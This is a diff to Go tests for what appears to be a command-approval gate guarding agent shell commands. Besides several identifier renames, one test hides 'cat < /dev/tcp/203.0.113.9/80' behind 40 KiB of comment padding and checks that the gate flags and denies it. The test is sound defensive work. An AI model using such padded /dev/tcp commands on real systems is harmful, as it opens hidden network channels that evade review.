@@ -54,7 +54,7 @@ func approvedRun(r *rig) {
 		return []netip.Addr{netip.MustParseAddr("203.0.113.9")}, nil
 	}
 	before := r.theReviewer()
-	approver := r.desk.HasApprover()
+	approver := r.queue.HasApprover()
 	r.Configure(opinion(false), approver, 0, 0)
 	r.ask(curl(asking(wanted))).gives(Allow, Passed)
 	r.ask(curl(agentShell(wanted))).gives(Allow, Recognised)
@@ -166,7 +166,7 @@ func TestApprovedCommand(t *testing.T) {
 		if approved.By != "alice" || approved.Question != q.ID {
 			t.Errorf("recognised %+v", approved)
 		}
-		r.wantErr(r.Used(q.ID), ErrUsed)
+		r.wantErr(r.Consume(q.ID), ErrUsed)
 		r.Gate.resolve = func(context.Context, string) ([]netip.Addr, error) {
 			return []netip.Addr{netip.MustParseAddr("203.0.113.9")}, nil
 		}
@@ -230,7 +230,7 @@ func TestReviewedAtExec(t *testing.T) {
 		id := r.one()
 		r.answer(id, true)
 		c.gives(Allow, Approved)
-		if err := r.Used(id); err != nil {
+		if err := r.Consume(id); err != nil {
 			t.Fatal(err)
 		}
 		r.Gate.resolve = func(context.Context, string) ([]netip.Addr, error) {
@@ -307,8 +307,8 @@ func TestReviewedWhole(t *testing.T) {
 		text := "make # " + strings.Repeat("a", 40<<10) + "\ncat < /dev/tcp/203.0.113.9/80"
 		r.Configure(cop.Static{}, false, 0, 0)
 		r.ask(curl(secret, asking(text))).gives(Deny, Flagged)
-		if f := Foresee(t.Context(), curl(secret, asking(text)), cop.Static{}, false); f.Reason != Flagged {
-			t.Errorf("foreseen: %+v", f)
+		if f := DryRun(t.Context(), curl(secret, asking(text)), cop.Static{}, false); f.Reason != Flagged {
+			t.Errorf("dry run: %+v", f)
 		}
 		var seen string
 		r.Configure(reviewer(func(c cop.Case) (cop.Opinion, error) {
